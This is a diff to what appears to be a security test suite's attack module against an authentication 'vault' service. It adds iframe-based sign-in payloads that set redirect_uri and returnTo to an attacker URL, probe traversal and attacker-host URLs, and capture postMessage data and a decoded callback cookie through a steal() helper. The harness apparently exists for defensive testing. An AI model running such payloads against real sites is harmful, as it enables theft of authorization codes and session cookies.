@@ -40,9 +40,16 @@ async function throughAFrameOfItsOwn(it: Injected): Promise<void> {
     ]);
   const me = await ask(`${it.apiUrl}me`);
   if (me?.status !== 200) throw new Error("the relay did not call the API");
-  const urls = ["session", "events", "login?returnTo=/", "login?silent=1", "keep", "redeem", "callback"].map(
-    (path) => `/${path}`,
-  );
+  const urls = [
+    "session",
+    "events",
+    "login?returnTo=/",
+    "login?silent=1",
+    "login?silent=frame",
+    "keep",
+    "redeem",
+    "callback",
+  ].map((path) => `/${path}`);
   urls.push(...urls.map((path) => `${it.vaultUrl}/auth${path}`), ...urls.map((path) => `/x/..${path}`));
   urls.push(`//${new URL(it.attackerUrl).host}/session`, it.attackerUrl, it.tokenEndpoint);
   urls.push(`${it.vaultUrl}/vault-worker.js`, "/callback.html", "blob:null", "data:,x", "");
@@ -200,20 +207,22 @@ export const framedSignIn = attack({
   async payload(it) {
     const app = encodeURIComponent(new URL(it.appUrl).origin);
     const evil = encodeURIComponent(it.attackerUrl);
-    const urls = [
+    let flows = 0;
+    // Any hash looks like a state of the vault. Each flow has its own, because all frames share the tab's storage.
+    const state = () => String.fromCharCode(65 + flows++) + it.codeChallenge.slice(1);
+    const urls = () => [
       it.authorizationUrl(),
       it.authorizationUrl({ response_mode: "fragment" }),
-      // Any hash looks like a state of the vault.
       ...[
         `app=${app}&prompt=none&returnTo=/`,
         `app=${app}&returnTo=/&code_challenge=${it.codeChallenge}&redirect_uri=${evil}`,
         `app=${evil}&returnTo=/`,
         `app=${app}&returnTo=${evil}`,
-      ].map((query) => `${it.vaultUrl}/login.html?state=${it.codeChallenge}&${query}`),
+      ].map((query) => `${it.vaultUrl}/login.html?state=${state()}&${query}`),
       `${it.vaultUrl}/callback.html?code=x&state=y`,
     ];
-    const frames = urls.flatMap((src) =>
-      ["", "allow-scripts allow-same-origin", "allow-scripts"].map((sandbox) => {
+    const frames = ["", "allow-scripts allow-same-origin", "allow-scripts"].flatMap((sandbox) =>
+      urls().map((src) => {
         const frame = document.createElement("iframe");
         if (sandbox) frame.setAttribute("sandbox", sandbox);
         frame.src = src;
@@ -221,7 +230,11 @@ export const framedSignIn = attack({
         return frame;
       }),
     );
-    addEventListener("message", ({ data, origin }) => it.steal(data, origin));
+    addEventListener("message", ({ data, origin }) => {
+      it.steal(data, origin);
+      // The value of the callback's cookie.
+      if (data?.response) it.steal(atob(data.response.replaceAll("-", "+").replaceAll("_", "/")));
+    });
     addEventListener("securitypolicyviolation", ({ blockedURI, sourceFile }) =>
       it.steal(blockedURI, sourceFile),
     );
